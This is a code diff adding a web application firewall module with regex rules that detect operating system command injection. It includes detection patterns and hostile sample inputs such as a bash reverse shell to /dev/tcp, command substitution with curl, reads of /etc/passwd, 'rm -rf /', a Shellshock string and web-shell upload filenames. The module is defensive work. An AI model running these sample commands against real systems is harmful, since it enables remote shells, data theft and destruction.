@@ -1,0 +1,105 @@
+"""PURE. Injection of operating system commands."""
+
+from __future__ import annotations
+
+from lbproxy.waf.rule import Rule, View
+
+__all__ = ["COMMANDS"]
+
+_SHELL = View.SHELL
+_END = r"(?:$| ?[;|&`)#<>])"
+_COMMAND = (
+    r"(?:(?:/?(?:usr/|local/)?s?bin/)?(?:(?:cat|tac|nl|more|less|head|tail|od|xxd|strings|base64"
+    r"|rev"
+    r"|sort|cut|grep|awk|sed|file|stat) (?:-[\w-]+ )?[^ \n]*[/.?*]"
+    rf"|(?:id|whoami|pwd|uname|hostname|env|printenv|set|ifconfig|ipconfig|netstat|ps|w|who|last|df"
+    rf"|mount|date|users|groups|tasklist|systeminfo|ver|dir|ls|sh|bash|zsh|ksh|dash){_END}"
+    r"|(?:uname|ps|ls|id|netstat|df|ifconfig|dir|date|hostname|env) -?[-/][\w-]+|ls [/~.]"
+    r"|dir \w?:?\\?"
+    r"|(?:wget|curl|lynx|fetch|ftp|tftp|scp|ssh|telnet) [-\w]*[ \w]*(?:-|http|ftp|//|[\w-]+\.|\$"
+    r"|\d)"
+    r"|(?:nc|ncat|netcat|socat) -?[\w]|ping6? (?:-\w|\d|[\w-]+\.)|sleep \d|timeout (?:/t )?\d"
+    r"|(?:rm|cp|mv|chmod|chown|kill|mkdir|touch|ln|tar|dd|chattr) (?:-|/|\+|\d|\w+=|[^ \n]+[/.])"
+    r"|(?:bash|sh|zsh|ksh|dash|python[\d.]*|perl|ruby|php|node|lua) -\w|(?:nslookup|dig"
+    r"|host) [\w$-]"
+    r"|echo [^\n]|printf [^\n]|find [/.]|net (?:user|localgroup|view|share)"
+    r"|type [\w:]*\\?[^ \n]*\.\w"
+    r"|(?:cmd|powershell|pwsh)(?:\.exe)? ?[/-]|crontab -|useradd|passwd|reg (?:add|query)|ip a"
+    r"|export \w+=|exec [\w/]|eval [\w$]|certutil|bitsadmin|wmic|mshta|rundll32|regsvr32|nohup))"
+)
+
+COMMANDS: tuple[Rule, ...] = (
+    Rule(
+        932100,
+        "command",
+        "command after a separator of the shell",
+        rf"^[^ \n]* ?(?:;|\|\|?|&&?|`|\$\(|<\(|>\() ?{_COMMAND}",
+        (";", "|", "&", "`", "$(", "<(", ">("),
+        ("8.8.8.8; cat /etc/passwd", "x|id", "a && whoami", "$(curl x.example)", "`id`"),
+        ("cats & dogs", "tea; biscuits", "a|b", "R&D date range", "id;name"),
+        _SHELL,
+    ),
+    Rule(
+        932110,
+        "command",
+        "command line of an attack",
+        r"\b(?:cat|head|tail|more|less|nl|tac|vi|nano) (?:-\w+ )?/?(?:etc/(?:passwd|shadow|hosts"
+        r"|group)|proc/)"
+        r"|/dev/(?:tcp|udp)/|\b(?:nc|ncat|netcat) (?:-\w+ )*-?[elvnp]+ |\bmkfifo /|\bbash -i\b"
+        r"|/bin/(?:ba|z|k|c|da)?sh -[ci]|\brm -rf? /(?:\*| |$|\w)|\bpowershell(?:\.exe)? -(?:enc?"
+        r"|e |nop|w"
+        r"|c |ep|exec)|\bcmd(?:\.exe)? ?/[ck] |certutil(?:\.exe)? -urlcache|bitsadmin /transfer"
+        r"|invoke-expression|\biex ?\( ?new|downloadstring ?\(|wget http[^ \n]+ ?(?:-o|;|&|\|)"
+        r"|\bpython[\d.]* -c import|\bperl -e |\bchmod (?:\+x|777) |curl [^|\n]*\| ?(?:ba)?sh$"
+        r"|\bnslookup [\w.-]*(?:oast|interact|burp|dnslog)|\.(?:oast|interactsh|dnslog|ceye)\.\w+"
+        r"|burpcollaborator",
+        *(
+            (
+                *("/etc/", "etc/", "/proc", "/dev/", "nc", "mkfifo", "bash", "sh -", "rm -"),
+                *("powershell", "cmd", "certutil", "bitsadmin", "invoke-", "iex", "downloadstring"),
+                *("wget", "python", "perl", "chmod", "curl", "oast", "interact", "burp", "dnslog"),
+                "ceye",
+            ),
+        ),
+        ("bash -i >& /dev/tcp/1.2.3.4/80", "cat /etc/passwd", "rm -rf /", "cmd.exe /c dir"),
+        ("concatenate /etc", "the bash shell", "#!/bin/bash"),
+        _SHELL,
+    ),
+    Rule(
+        932120,
+        "command",
+        "separator or variable that hides a command",
+        r"\$\{?ifs\b|\{(?:cat|ls|id|echo|curl|wget|ping|nc|bash|sh),[^ \n}]*\}|\$\{(?:path|home"
+        r"|shell|pwd)"
+        r":\d|\$\{?hostname\}?[.`]|\$\( ?(?:whoami|id|hostname|uname|cat|curl|wget|nslookup|sleep"
+        r"|ping)\b"
+        r"|\$\(\(\d+ ?[*+] ?\d+\)\)|%comspec%|\bwh\$@oami|/\?{2,}/|/b[i?][n?]/[\w?]*\?"
+        r"|`(?:whoami|id|hostname|uname -a|sleep \d+|curl [^`\n]*\$|nslookup [^`\n]*)`",
+        ("$", "{", "%", "/?", "/b", "`", "?"),
+        ("cat${IFS}/etc/x", "{cat,/x}", "/???/c?t", "$(whoami)"),
+        ("${HOME}/bin", "{a,b}", "what? /why?/"),
+        View.TEXT,
+    ),
+    Rule(
+        932130,
+        "command",
+        "function in an environment variable (Shellshock)",
+        r"^\(\) ?\{",
+        ("() {", "(){"),
+        ("() { :;}; /bin/id",),
+        ("f() { return }",),
+        View.TEXT,
+    ),
+    Rule(
+        932140,
+        "command",
+        "server-side file upload of a script",
+        r"^filename=[^\n]*\.(?:php\d?|phtml|phar|pht|jspx?|jspf|aspx?|ashx|asmx|cer|cfm|cgi|pl|sh"
+        r"|exe"
+        r"|bat|ps1|htaccess|user\.ini)\.?(?:[;: .]|%00|$|::)|^filename=[^\n]*(?:\.\./|\.\.\\)",
+        ("filename=",),
+        ("filename=shell.php", "filename=a.jsp;.jpg", "filename=../../x"),
+        ("filename=photo.jpg", "filename=php.pdf"),
+        View.TEXT,
+    ),
+)
